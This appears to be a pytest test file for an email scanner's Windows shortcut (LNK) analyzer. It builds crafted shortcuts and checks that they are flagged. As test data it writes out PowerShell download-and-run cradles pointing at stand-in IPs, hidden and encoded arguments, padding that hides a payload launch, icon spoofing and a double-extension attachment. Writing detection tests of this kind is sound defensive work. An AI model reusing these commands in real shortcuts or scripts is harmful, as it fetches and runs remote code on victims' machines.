"""LNK analyzer: real shortcuts (strelka PoC, InQuest in-the-wild, a benign one) and crafted ones."""

from __future__ import annotations

import struct

import pytest

from coinguard.analyzers.lnk import LnkAnalyzer
from coinguard.analyzers.lnk_common import obfuscation_signs, program_name
from coinguard.findings import Finding, Item, Verdict

from helpers import DATA, codes, read_corpus_sample, run_handler

LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")
HAS_RELATIVE_PATH, HAS_WORKING_DIR, HAS_ARGUMENTS, HAS_ICON, IS_UNICODE = 0x8, 0x10, 0x20, 0x40, 0x80


def build_lnk(target: str, args: str = "", icon: str = "", workdir: str = "") -> bytes:
    """A minimal [MS-SHLLINK] shortcut: header + Unicode StringData + terminal block."""
    flags = IS_UNICODE | HAS_RELATIVE_PATH
    strings = b""
    for flag, text in ((HAS_RELATIVE_PATH, target), (HAS_WORKING_DIR, workdir), (HAS_ARGUMENTS, args),
                       (HAS_ICON, icon)):
        if text or flag == HAS_RELATIVE_PATH:
            flags |= flag
            strings += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    header = struct.pack("<I16sII", 0x4C, LNK_CLSID, flags, 0x20) + b"\x00" * 24 + struct.pack("<IiI", 0, 0, 1)
    header += b"\x00" * (0x4C - len(header))
    return header + strings + b"\x00\x00\x00\x00"


def run(data: bytes, name: str = "invoice.pdf.lnk") -> tuple[list[Finding], list[Item]]:
    return run_handler(LnkAnalyzer(), data, name)


def test_strelka_poc_runs_calc() -> None:
    findings, children = run((DATA / "strelka_test.lnk").read_bytes())
    assert codes(findings) == {"lnk.present", "lnk.exec_target"}
    assert "calc.exe" in findings[0].detail and "-testCommands" in findings[0].detail
    assert children == []


@pytest.mark.corpus
def test_inquest_lnk_runs_wscript(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample("maldocs/inquest/system.lnk.zip"))
    assert codes(findings) == {"lnk.present", "lnk.exec"}
    assert "wscript" in next(f.detail for f in findings if f.code == "lnk.exec")


@pytest.mark.corpus
def test_benign_shortcut_to_a_document(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample("benign/attachments/pyhwpscan/sample.hwp.lnk"))
    assert codes(findings) == {"lnk.present"}
    scores = {c.code: c.score for c in LnkAnalyzer.codes}
    assert sum(scores[f.code] for f in findings) < 5


def test_crafted_powershell_encoded_with_icon_spoof() -> None:
    data = build_lnk(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        args="-w hidden -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" * 2,
        icon=r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    )
    findings, _ = run(data)
    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.command_args",
                               "lnk.icon_spoof"}


def test_crafted_padding_and_appended_payload() -> None:
    data = build_lnk(r"C:\Windows\System32\cmd.exe", args=" " * 300 + "/c start payload.exe")
    payload = b"MZ" + b"\x90" * 200
    findings, children = run(data + payload)
    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.appended_data"}
    assert len(children) == 1 and children[0].data == payload and children[0].type == "pe"
    assert children[0].role == "embedded"


def test_crafted_unc_target() -> None:
    findings, _ = run(build_lnk(r"\\198.51.100.7\share\doc.exe"))
    assert codes(findings) == {"lnk.present", "lnk.exec_target", "lnk.remote_target"}


def test_truncated_shortcut_is_a_parse_error() -> None:
    data = build_lnk(r"C:\Windows\System32\cmd.exe", args="/c calc")[:40]
    findings, _ = run(data)
    assert codes(findings) == {"lnk.present", "lnk.parse_error"}


def test_helpers() -> None:
    assert program_name(r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"') == "powershell"
    assert obfuscation_signs("%COMSPEC:~-16,1%") == ["env-var substring"]
    assert obfuscation_signs("readme.txt") == []


# -- issue 11: graded by what the shortcut does -------------------------------------------------
STRENGTHS = {c.code: c.strength for c in LnkAnalyzer.codes}


@pytest.mark.parametrize(
    ("target", "args", "icon", "conclusive"),
    [
        # an interpreter with a download cradle
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "-nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')", "", {"lnk.exec"}),
        # a program an earlier stage dropped in a staging folder, wearing a PDF icon
        (r"C:\Users\Public\Documents\update.exe", "", r"C:\Program Files\Adobe\Acrobat\AcroRd32.exe",
         {"lnk.exec_target", "lnk.staging_target", "lnk.icon_spoof"}),
        (r"%APPDATA%\Microsoft\sync.dat", "", "", {"lnk.staging_target"}),
        # an unknown program fed an encoded PowerShell command
        (r"C:\Tools\helper", "-enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" * 2, "", {"lnk.command_args"}),
        (r"\\files.example\pub\invoice.pdf", "", "", {"lnk.remote_target"}),
    ],
)
def test_a_shortcut_that_runs_something_is_conclusive(target: str, args: str, icon: str,
                                                      conclusive: set[str]) -> None:
    findings, _ = run(build_lnk(target, args=args, icon=icon))
    got = {f.code for f in findings if STRENGTHS[f.code] == "conclusive"}
    assert conclusive <= got, got


def test_a_shortcut_to_a_local_document_is_weak_context() -> None:
    findings, _ = run(build_lnk(r"C:\Users\kim\Documents\report.hwp"), "report.hwp.lnk")
    assert codes(findings) == {"lnk.present"}
    assert STRENGTHS["lnk.present"] is None  # weak at its score 4, conclusive if an admin raises it to 15
    # a plain program the user has (Notepad) is a program all the same
    assert "lnk.exec_target" in codes(run(build_lnk(r"C:\Windows\notepad.exe"))[0])


def _scan(raw: bytes) -> Verdict:
    from coinguard.config import parse_config
    from coinguard.scan import ScanContext, scan_message

    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n')
    return scan_message(raw, ScanContext(config=cfg))


def test_end_to_end_shortcut_verdicts() -> None:
    from helpers import make_message, zip_bytes

    evil = build_lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                     args="-w hidden -c iwr http://203.0.113.4/p.ps1 | iex")
    v = _scan(make_message(attachments=[("scan.zip", zip_bytes({"Invoice.pdf.lnk": evil}))]))
    assert v.verdict == "malicious" and v.action == "quarantine", v.basis
    found = {f.code for f in v.findings}
    assert {"lnk.exec", "file.double_extension.runs"} <= found
    benign = build_lnk(r"C:\Users\kim\Desktop\sample\sample.hwp")
    v = _scan(make_message(attachments=[("sample.hwp.lnk", benign)]))
    assert v.verdict == "clean", v.findings
    assert {f.code for f in v.findings if f.score} == {"lnk.present"}
